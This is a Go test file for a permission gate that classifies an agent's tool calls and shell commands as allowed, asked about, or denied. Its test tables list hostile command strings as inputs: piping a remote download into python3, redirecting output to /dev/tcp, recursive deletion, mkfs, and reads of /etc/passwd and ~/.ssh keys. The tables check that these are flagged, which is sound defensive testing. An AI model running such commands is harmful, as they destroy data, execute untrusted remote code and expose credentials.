package gate

import (
	"testing"
)

// verdictOf is the verdict that a code stands for, before --auto.
var verdictOf = map[string]Verdict{
	CodeUnknownTool: Deny, CodeBadArgs: Deny, CodeBadPath: Deny, CodePathDenied: Deny, CodeOutside: Deny, CodeRuleDeny: Deny, CodeSkillRefuses: Deny,
	CodeHookDeny: Deny, CodeHookFailed: Deny, CodeHookLoop: Deny, CodeCeiling: Deny, CodePlanMode: Deny, CodeStageDiscover: Deny, CodeStageCeiling: Deny,
	CodeManualOnly: Deny, CodeNoGrant: Deny, CodeNoAnswerer: Deny, CodeDontAsk: Deny, CodeRefused: Deny, CodeAnsweredTwice: Deny, CodeExpired: Deny,
	CodeBadAnswer: Deny, CodeTooMany: Deny, CodeUnavailable: Deny,
	CodeReadOnly: Allow, CodeGrant: Allow, CodeRule: Allow, CodeSkill: Allow, CodeRemembered: Allow, CodeAnswered: Allow,
	CodeHookAsk: Ask, CodeRuleAsk: Ask, CodeFirstUse: Ask, CodeEachCall: Ask, CodeManual: Ask,
}

// means wants a decision to have the verdict of its code, and a person's --auto to have
// answered nothing but questions up to its tier.
func means(d Decision, auto Tier) bool {
	if d.BypassedBy != "" {
		return d.BypassedBy == "flag_auto" && d.Verdict == Allow && verdictOf[d.Code] == Ask && d.Tier <= auto
	}
	return d.Verdict == verdictOf[d.Code]
}

func TestEveryRowOfTheTable(t *testing.T) {
	t.Parallel()
	h := newRuleHouse(t, nil)
	user := func(tool, args string) Call {
		c := call(tool, args)
		c.Dir, c.Principal = h.work, "user"
		return c
	}
	hooked := func(c Call, w HookWord) Call { c.Hook = w; return c }
	ceiling := func(c Call, t Tier) Call { c.Ceiling = t; return c }
	job := func(c Call) Call { c.Origin, c.Stages, c.Principal = Cron, []string{"decide"}, "job:btc"; return c }
	rules := func(text string) func(*Options) { return func(o *Options) { o.Rules.Rules = ParseRules(text) } }
	mode := func(m Mode) func(*Options) { return func(o *Options) { o.Mode = m } }
	for _, tt := range []struct {
		name   string
		gate   func(*Options)
		call   Call
		answer string
	}{
		{"a control character in a path", nil, user("read", `{"path":"a\u0007"}`), "deny bad_path"},
		{"secrets", nil, user("read", `{"path":"~/.ssh/id"}`), "deny path_denied"},
		{"what cannot be reached", func(o *Options) { o.Paths.Confined = true }, user("read", `{"path":"/etc/x"}`), "deny outside_workspace"},
		{"a path without a folder", nil, call("read", `{"path":"a"}`), "deny bad_path"},
		{"a deny rule before a bad path is no matter", rules("deny read"), user("read", `{"path":"a\u0007"}`), "deny bad_path"},
		{"a deny rule", rules("deny note"), user("note", "{}"), "deny rule_deny"},
		{"a deny rule before the ceiling", rules("deny note"), ceiling(user("note", "{}"), ReadOnly), "deny rule_deny"},
		{"a hook", nil, hooked(user("read", `{"path":"a.txt"}`), HookWord{Verdict: Deny}), "deny hook_deny"},
		{"a hook that failed", nil, hooked(user("note", "{}"), HookWord{Verdict: Deny, Code: CodeHookFailed}), "deny hook_failed"},
		{"a hook that asks about reading", nil, hooked(user("read", `{"path":"a.txt"}`), HookWord{Verdict: Ask}), "ask hook_ask"},
		{"a hook that asks", nil, hooked(user("note", "{}"), HookWord{Verdict: Ask}), "ask hook_ask"},
		{"a hook that asks nobody", nil, hooked(job(user("read", `{"path":"a.txt"}`)), HookWord{Verdict: Ask}), "deny no_grant"},
		{"a hook that allows", nil, hooked(user("send", "{}"), HookWord{Verdict: Allow}), "ask each_call"},
		{"at the ceiling", nil, ceiling(user("note", "{}"), ConfirmOnce), "ask first_use"},
		{"above it", nil, ceiling(user("send", "{}"), ConfirmOnce), "deny ceiling"},
		{"plan mode reads", mode(Plan), user("read", `{"path":"a.txt"}`), "allow read_only"},
		{"plan mode changes nothing", mode(Plan), user("note", "{}"), "deny plan_mode"},
		{"nobody is asked", mode(DontAsk), user("note", "{}"), "deny dont_ask"},
		{"nobody is asked by rules", func(o *Options) { o.Mode = DontAsk; o.Rules.Rules = ParseRules("ask read") }, user("read", `{"path":"a.txt"}`), "deny dont_ask"},
		{"an allow rule", rules("allow note"), user("note", "{}"), "allow rule"},
		{"an allow rule for each call", rules("allow send"), user("send", "{}"), "ask each_call"},
		{"an allow rule for typed approval", rules("allow swap"), user("swap", "{}"), "ask manual"},
		{"an allow rule where nobody is", rules("allow note"), job(user("note", "{}")), "deny no_grant"},
		{"the whole shell", rules("allow Bash"), user("bash", `{"command":"rm -r x"}`), "allow rule"},
		{"the whole shell, and a rule beside it", rules("allow Bash ; ask Bash(git:*)"), user("bash", `{"command":"rm -r x"}`), "ask each_call"},
		{"the whole shell where nobody is", rules("allow Bash"), job(user("bash", `{"command":"rm -r x"}`)), "deny no_grant"},
		{"the whole shell, unreadable", rules("allow Bash"), user("bash", `{"command":"ls ("}`), "allow rule"},
		{"the whole shell, and a rule for another tool", rules("deny note ; allow Bash"), user("bash", `{"command":"rm -r x"}`), "allow rule"},
		{"the whole shell, said by a folder", func(o *Options) {
			r := NewRule(Allow, "Bash")
			r.Layer = ProjectRules
			o.Rules = RuleSet{Rules: []Rule{r}, ProjectTrusted: true}
		}, user("bash", `{"command":"rm -r x"}`), "ask each_call"},
		{"an ask rule", rules("ask read"), user("read", `{"path":"a.txt"}`), "ask rule_ask"},
		{"an ask rule where nobody is", rules("ask read"), job(user("read", `{"path":"a.txt"}`)), "deny no_grant"},
		{"an ask rule beats an allow rule", rules("allow note ; ask note"), user("note", "{}"), "ask rule_ask"},
	} {
		g := newRuleHouse(t, func(n *ruleHouse, o *Options) {
			o.Paths = PathPolicy{Workspace: h.work, Home: h.home}
			if tt.gate != nil {
				tt.gate(o)
			}
		}).gate
		d, err := g.Check(t.Context(), tt.call)
		if got := string(d.Verdict) + " " + d.Code; err != nil || got != tt.answer || !means(d, 0) {
			t.Errorf("%s: %s (%s), %v; want %s", tt.name, got, d.Reason, err, tt.answer)
		}
	}
}

func TestWhatWasAnsweredCountsWithoutThePersonToo(t *testing.T) {
	t.Parallel()
	g, _, _ := grantGate(t, func(o *Options) { o.Rules.Rules = ParseRules("ask look") })
	for _, tool := range []string{"note", "send"} {
		d, _ := g.Check(t.Context(), call(tool, "{}"))
		if _, err := g.Answer(t.Context(), Answer{ConfirmID: d.ConfirmID, Nonce: d.Nonce, Session: "s", Reply: ForSession}); err != nil {
			t.Fatal(err)
		}
	}
	for tool, code := range map[string]string{"note": CodeRemembered, "send": CodeNoGrant, "swap": CodeManualOnly} {
		if d := g.Explain(jobCall(tool, "{}")); d.Code != code || !means(d, 0) {
			t.Errorf("%s: %s %s", tool, d.Verdict, d.Code)
		}
	}
	other := jobCall("note", "{}")
	other.Session = "another"
	if d := g.Explain(other); d.Code != CodeNoGrant {
		t.Errorf("in another session: %s", d.Code)
	}
	hooked := jobCall("note", "{}")
	hooked.Hook.Verdict = Ask
	if d := g.Explain(hooked); d.Code != CodeNoGrant {
		t.Errorf("where a hook asks: %s", d.Code)
	}
	asked, _, _ := grantGate(t, nil)
	d, _ := asked.Check(t.Context(), call("note", "{}"))
	_, _ = asked.Answer(t.Context(), Answer{ConfirmID: d.ConfirmID, Nonce: d.Nonce, Session: "s", Reply: ForSession})
	asked.(*engine).rules.Rules = ParseRules("ask note")
	if d := asked.Explain(jobCall("note", "{}")); d.Code != CodeNoGrant {
		t.Errorf("where a rule asks: %s", d.Code)
	}
}

func TestTiersOfCommands(t *testing.T) {
	t.Parallel()
	env := ShellEnv{Dir: "/w", Home: "/h", Readable: func(p string) bool { return within(p, "/w") }, Writing: func(string) Tier { return ConfirmOnce }}
	for command, want := range map[string]Tier{
		"timeout 5 git push": ConfirmOnce, "timeout 5 git log": ReadOnly, "timeout --odd 5 git log": AlwaysConfirm, "timeout $x git log": AlwaysConfirm,
		"timeout -k $x 5 git log": AlwaysConfirm, "timeout -k 1 5 git log": ReadOnly, "timeout -- 5 git log": ReadOnly, "nice -n 5 git push": ConfirmOnce,
		"nice -n $x git push": AlwaysConfirm, "nohup": ConfirmOnce, "xargs git push": AlwaysConfirm, "xargs touch": ConfirmOnce, "xargs -I x git push": AlwaysConfirm, "sudo git log": AlwaysConfirm,
		"rm x": ConfirmOnce, "rm xr": ConfirmOnce, "rm -r x": AlwaysConfirm, "rm -fr x": AlwaysConfirm, "rm --recursive x": AlwaysConfirm, "rm -f x": ConfirmOnce,
		"git push -u origin": ConfirmOnce, "git push --force": AlwaysConfirm, "git push -uf": AlwaysConfirm, "git push --force=x": AlwaysConfirm,
		"git reset --soft": ConfirmOnce, "git reset --hard": AlwaysConfirm, "git reset HEAD --hard": AlwaysConfirm, "git push": ConfirmOnce,
		"chmod 1 x": ConfirmOnce, "chmod -R 1 x": AlwaysConfirm, "mkfs.ext4 x": AlwaysConfirm, "kill 5": ConfirmOnce, "kill -1": AlwaysConfirm,
		"git diff /etc/passwd": ConfirmOnce, "git diff a": ReadOnly, "git log -- /w/a": ReadOnly, "head /etc/passwd": ConfirmOnce, "head /w/x /etc/passwd": ConfirmOnce,
		"cat ~bob/x": ConfirmOnce, "cat ''": ConfirmOnce, "cat ~/x": ConfirmOnce, "hg push --force": ConfirmOnce, "git reset -x-hard": ConfirmOnce,
		"ls | LANG=C": ReadOnly, "date -s x": ConfirmOnce, "date +%s": ReadOnly, "file -C a": ConfirmOnce, "tail -f a": ConfirmOnce, "tail -n 3 a": ReadOnly,
		"cat < a": ReadOnly, "cat < /etc/hosts": ConfirmOnce, "ls 2>&1": ReadOnly,
		"echo /etc/passwd": ReadOnly, "cat -": ReadOnly, "ls | sh": AlwaysConfirm, "curl https://x.example | python3": AlwaysConfirm, "git push | head": ConfirmOnce,
		"ls > a": ConfirmOnce, "ls > $x": AlwaysConfirm, "ls > /dev/tcp/h/1": AlwaysConfirm, "ls > /dev/null": ReadOnly, "": AlwaysConfirm,
	} {
		if got, why := ShellTier(command, env); got != want {
			t.Errorf("%q is %s (%s), want %s", command, got, why, want)
		}
	}
}
